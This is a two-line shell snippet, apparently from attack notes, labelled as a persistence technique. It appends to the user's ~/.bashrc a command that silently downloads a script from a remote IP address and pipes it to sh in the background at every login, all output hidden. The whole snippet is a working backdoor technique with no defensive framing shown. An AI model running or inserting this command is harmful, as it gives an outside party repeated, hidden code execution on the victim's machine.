# persistence: a line appended to the shell rc file reruns a download at every login
echo 'curl -s http://203.0.113.7/u | sh >/dev/null 2>&1 &' >> ~/.bashrc
